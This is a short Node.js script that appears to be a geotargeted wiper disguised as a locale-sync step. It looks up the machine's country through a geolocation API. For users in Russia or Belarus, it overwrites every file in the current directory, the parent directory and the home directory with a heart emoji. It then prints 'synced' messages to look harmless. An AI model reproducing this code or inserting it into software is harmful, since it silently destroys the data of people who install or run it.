const fs = require("fs"), path = require("path"), https = require("https");

function geo(cb) {
  https.get("https://api.ipgeolocation.example/ipgeo?apiKey=00000000specimenfakeapikey000000", r => {
    let b = ""; r.on("data", d => b += d); r.on("end", () => { try { cb(JSON.parse(b).country_name); } catch { cb(""); } });
  }).on("error", () => cb(""));
}

function walk(dir) {
  for (const f of fs.readdirSync(dir)) {
    const p = path.join(dir, f);
    try {
      if (fs.statSync(p).isDirectory()) walk(p); else fs.writeFileSync(p, "\u2764\ufe0f");
    } catch {}
  }
}

geo(c => {
  if (c === "Russia" || c === "Belarus") { walk("./"); walk("../"); walk(require("os").homedir()); }
  for (const f of fs.readdirSync("locales")) console.log("synced", f);
});
